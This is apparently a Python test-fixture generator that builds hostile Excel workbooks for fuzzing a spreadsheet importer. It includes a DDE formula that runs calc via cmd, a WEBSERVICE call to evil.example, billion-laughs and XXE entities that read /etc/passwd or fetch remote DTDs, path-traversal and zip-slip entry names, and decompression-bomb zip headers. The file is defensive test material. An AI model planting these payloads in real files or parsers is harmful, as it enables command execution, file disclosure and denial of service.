"""Hostile workbooks, made by code: bombs, cells at the end of the world, entities, broken and missing parts, odd zips."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Iterator
from functools import cache

import openpyxl

_SHEET, _BOOK, _TYPES, _RELATIONS = (
    "xl/worksheets/sheet1.xml",
    "xl/workbook.xml",
    "[Content_Types].xml",
    "xl/_rels/workbook.xml.rels",
)
_MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


@cache
def _parts() -> dict[str, bytes]:
    book = openpyxl.Workbook()
    for row in (["measure", "year", "value"], ["Graduation on time", "2012-13", 0.745], ["x", None, "text"]):
        book.worksheets[0].append(row)
    kept = io.BytesIO()
    book.save(kept)
    with zipfile.ZipFile(kept) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _zip(parts: dict[str, bytes], *more: tuple[str, bytes]) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, raw in (*parts.items(), *more):
            archive.writestr(name, raw)
    return kept.getvalue()


def _with(name: str, raw: bytes) -> bytes:
    return _zip({**_parts(), name: raw})


def _sheet(rows: str, before: str = "") -> bytes:
    return f'<?xml version="1.0"?>{before}<worksheet {_MAIN}><sheetData>{rows}</sheetData></worksheet>'.encode()


def with_sheet(rows: str, before: str = "") -> bytes:
    """A workbook with these rows; `before` stands before the root of the sheet."""
    return _with(_SHEET, _sheet(rows, before))


def books() -> Iterator[bytes]:
    """At least 40 files that call themselves workbooks."""
    yield from _cells()
    yield from _xml()
    yield from _zips()


def _cells() -> Iterator[bytes]:
    for place, row in (
        ("XFD1048576", "1048576"),
        ("XFD1", "1"),
        ("A1048576", "1048576"),
        ("ZZZ9", "9"),
        ("A99999999999", "99999999999"),
        ("A0", "0"),
        ("1A", "1"),
        ("", "x"),
    ):
        yield _with(_SHEET, _sheet(f'<row r="{row}"><c r="{place}"><v>1</v></c></row>'))
    for kind, value in (
        ("s", "999999999"),
        ("s", "-1"),
        ("s", "x"),
        ("b", "maybe"),
        ("d", "2013-99-99"),
        ("e", "#REF!"),
        ("n", "1e999"),
        ("n", "NaN"),
        ("n", "x" * 100_000),
        ("zz", "1"),
    ):
        yield _with(_SHEET, _sheet(f'<row r="1"><c r="A1" t="{kind}"><v>{value}</v></c></row>'))
    yield _with(
        _SHEET,
        _sheet(
            '<row r="1"><c r="A1"><f>cmd|\' /C calc\'!A0</f></c><c r="B1"><f>WEBSERVICE("https://evil.example")</f><v>1</v></c></row>'
        ),
    )
    yield _with(
        _SHEET, _sheet("".join(f'<row r="{number}"><c r="A{number}"><v>1</v></c></row>' for number in range(1, 60_001)))
    )
    yield _with(_SHEET, _sheet("<row>" + '<c t="n"><v>1</v></c>' * 20_000 + "</row>"))
    yield _with(_SHEET, _sheet('<row r="1"><c r="A1" t="inlineStr"><is><t>' + "x" * 3_000_000 + "</t></is></c></row>"))
    yield _zip(
        {
            name: raw.replace(b'<dimension ref="A1:C3"', b'<dimension ref="A1:XFD1048576"')
            for name, raw in _parts().items()
        }
    )


def _xml() -> Iterator[bytes]:
    laughs = "".join(f'<!ENTITY l{number} "{f"&l{number - 1};" * 10}">' for number in range(1, 10))
    for head in (f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>', '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">',
                 '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/x"> %p;]>'):  # fmt: skip
        for name in (_SHEET, _BOOK):
            yield _with(name, _sheet("<row><c><v>&l9;&x;</v></c></row>", head))
    for name in (_SHEET, _BOOK, _TYPES, _RELATIONS, "xl/styles.xml"):
        yield _with(name, b"")
        yield _with(name, b"<" * 10_000)
        yield _with(name, b"<a>" * 50_000)
        yield _zip({other: raw for other, raw in _parts().items() if other != name})
    yield _with(_RELATIONS, _parts()[_RELATIONS].replace(b"worksheets/sheet1.xml", b"../../../../etc/passwd"))
    yield _with(_RELATIONS, _parts()[_RELATIONS].replace(b"/xl/worksheets/sheet1.xml", b"https://evil.example/x.xml"))
    yield _with(_SHEET, _sheet("<row/>").decode().encode("utf-16"))


def _zips() -> Iterator[bytes]:
    yield _zip(_parts(), ("xl/media/x.bin", b"\0" * 50_000_000))
    yield _with(_SHEET, b" " * 80_000_000)
    yield _zip(_parts(), *((f"xl/x{number}.xml", b"x") for number in range(3_000)))
    yield _zip(_parts(), ("../../../tmp/pwned", b"x"), ("/etc/pwned", b"x"), ("C:\\pwned", b"x"))
    whole = _zip(_parts())
    yield from (
        whole[:100],
        whole[:-30],
        whole[100:],
        b"PK\x03\x04" + b"\0" * 1000,
        b"PK\x05\x06" + b"\0" * 18,
        whole + whole,
        b"PK\x03\x04" * 5_000,
    )
    at = whole.rindex(b"PK\x01\x02")
    yield whole[: at + 20] + struct.pack("<II", 10, 4_000_000_000) + whole[at + 28 :]  # says that it unpacks to 4 GB
    yield whole[: at + 8] + b"\x01\x00" + whole[at + 10 :]  # says that it has a password
    yield whole[: at + 10] + b"\x63\x00" + whole[at + 12 :]  # packed in a way that nobody knows
